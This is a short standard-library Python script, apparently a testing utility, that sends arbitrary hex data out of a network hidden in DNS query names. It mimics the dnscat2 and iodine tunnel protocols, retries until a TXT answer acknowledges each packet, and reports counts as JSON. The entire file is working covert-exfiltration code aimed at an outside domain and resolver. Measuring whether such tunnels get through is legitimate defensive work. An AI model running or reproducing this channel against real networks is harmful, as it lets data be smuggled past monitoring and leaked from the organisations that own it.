"""Carries data out in DNS names, as dnscat2 and iodine do. Standard library only.

usage: dns_tunnel.py FRAMING DOMAIN SERVER HEX

FRAMING is dnscat2 or iodine; SERVER an address, or empty for the system's resolver. Each packet is
sent again up to three times until an answer of type TXT acknowledges it. Prints JSON.
"""

import base64
import json
import os
import re
import socket
import struct
import sys
from collections.abc import Iterator
from pathlib import Path

TXT = 16


def main() -> None:
    framing, domain, server, data = sys.argv[1:5]
    if not server:
        text = Path("/etc/resolv.conf").read_text()
        server = re.findall(r"^nameserver (\S+)", text, re.MULTILINE)[0]
    packets = list(FRAMINGS[framing](bytes.fromhex(data), domain))
    sock = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.4)
    sock.connect((server, 53))
    acknowledged, codes = 0, dict[str, int]()
    for number, labels in enumerate(packets):
        for _ in range(3):
            answer = ask(sock, labels, number)
            if answer is None:
                codes["silence"] = codes.get("silence", 0) + 1
                continue
            code, records = answer
            codes[str(code)] = codes.get(str(code), 0) + 1
            if records:
                acknowledged += 1
                break
    print(json.dumps({"packets": len(packets), "acknowledged": acknowledged, "codes": codes}))


def ask(sock: socket.socket, labels: list[bytes], number: int) -> tuple[int, int] | None:
    name = b"".join(bytes((len(label),)) + label for label in labels) + b"\0"
    query = struct.pack(">HHHHHH", number + 1, 0x0100, 1, 0, 0, 0)
    try:
        sock.send(query + name + struct.pack(">HH", TXT, 1))
        reply = sock.recv(65535)
    except OSError:
        return None
    return reply[3] & 15, struct.unpack_from(">H", reply, 6)[0]


def dnscat2(data: bytes, domain: str) -> Iterator[list[bytes]]:
    """SYN, then MSG packets with sequence numbers: dnscat2's doc/protocol.md, in hexadecimal."""
    session = os.urandom(2)
    sequence = int.from_bytes(os.urandom(2), "big")
    ends = [label.encode() for label in domain.split(".")]
    yield [
        *cut((os.urandom(2) + b"\0" + session + sequence.to_bytes(2, "big") + b"\0\0").hex()),
        *ends,
    ]
    for at in range(0, len(data), 80):
        chunk = data[at : at + 80]
        head = os.urandom(2) + b"\1" + session + sequence.to_bytes(2, "big") + b"\0\0"
        yield [*cut((head + chunk).hex()), *ends]
        sequence = (sequence + len(chunk)) % 65536


def iodine(data: bytes, domain: str) -> Iterator[list[bytes]]:
    """Version and login handshakes, then data: iodine's doc/proto_00000502.txt."""
    ends = [label.encode() for label in domain.split(".")]
    yield [b"v" + base32(b"\0\0\5\2" + os.urandom(2)), *ends]
    yield [b"l" + base32(b"\0" + os.urandom(16) + os.urandom(2)), *ends]
    for number, at in enumerate(range(0, len(data), 110)):
        head = b"0" + base32(bytes((number & 7, number & 15)))[:3] + b"abcdefgh"[number & 7 :][:1]
        yield [*cut(head + base32(data[at : at + 110])), *ends]


def base32(data: bytes) -> bytes:
    return base64.b32encode(data).rstrip(b"=").lower()


def cut(text: str | bytes) -> list[bytes]:
    raw = text.encode() if isinstance(text, str) else text
    return [raw[at : at + 57] for at in range(0, len(raw), 57)]


FRAMINGS = {"dnscat2": dnscat2, "iodine": iodine}

if __name__ == "__main__":
    main()
